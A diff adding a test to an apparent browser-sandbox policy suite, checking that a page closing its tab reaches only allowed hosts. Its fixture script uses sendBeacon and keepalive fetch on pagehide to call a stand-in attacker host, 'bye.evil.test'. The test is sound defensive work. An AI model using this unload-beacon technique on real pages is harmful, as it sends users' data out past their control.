@@ -190,3 +190,32 @@ async def test_nothing_is_fetched_for_pages_that_are_gone() -> None:
                 later = "['fetchLater', 'BackgroundFetchManager'].filter(each => each in window)"
                 told = await served.does("eval", expression=f"{later}.length + ' of them'")
                 assert "0 of them" in told
+
+
+_BYE = (
+    "<script>onpagehide = () => { for (const url of ['DENIED', '/bye']) {"
+    " navigator.sendBeacon(url, 'x'); fetch(url, {keepalive: true, mode: 'no-cors'}) } }</script>"
+)
+
+
+@pytest.mark.parametrize("by", ["tab_close", "the end"])
+async def test_what_a_page_asks_for_while_its_tab_closes(by: str) -> None:
+    """A page that goes reaches what is allowed once more, and nothing else."""
+    with short_folder() as folder:
+        async with open_yard("attached", folder) as yard:
+            denied = f"http://bye.evil.test:{yard.site.port}/"
+            yard.site.serve({"/here": Page(_BYE.replace("DENIED", denied)), "/bye": Page("x")})
+            options = PolicyOptions(
+                allow_domain=(f"{ALLOWED}:{yard.site.port}",), enable_mutations=True
+            )
+            launch = LaunchOptions(cdp_endpoint=yard.endpoint, data_dir=folder)
+            policy = Policy.from_options(options)
+            async with open_door(launch, ServeOptions(), policy, Timeouts()) as door:
+                served = Served(door)
+                await served.does("navigate", url=f"{yard.site.origin}/here")
+                if by == "tab_close":
+                    await served.does("tab_close")
+            await yard.site.wait_path("/bye")
+            async with open_browser_at(yard.endpoint, exclusive=False) as theirs:
+                await visit(theirs, yard, "later")
+            assert yard.leaking_hosts() <= {"later.evil.test"}
